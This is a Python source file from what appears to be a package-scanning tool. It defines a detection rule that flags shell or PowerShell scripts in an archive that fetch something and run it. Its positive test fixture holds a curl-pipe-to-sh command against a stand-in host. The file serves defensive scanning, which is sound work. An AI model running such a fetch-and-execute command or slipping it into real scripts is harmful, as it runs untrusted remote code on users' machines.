"""A shell script of the archive fetches and runs something."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import INFO, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for script in view.of(v.SHELL):
        yield Hit(
            "a shell script fetches something" + (" and runs it" if "piped" in script.flags else ""),
            (script,),
            None if "piped" in script.flags else INFO,
        )


RULE = Rule(
    name="shell-download",
    description="A script for a shell or PowerShell fetches something and runs it.",
    grade=INFO,
    when_new=REVIEW,
    find=_find,
    fires={"acme/get.sh": "#!/bin/sh\ncurl -s https://example.test/x | sh\n"},
    quiet={"acme/run.sh": "#!/bin/sh\nexec python -m acme\n"},
    rates="3 of 60 popular wheels bring one",
)
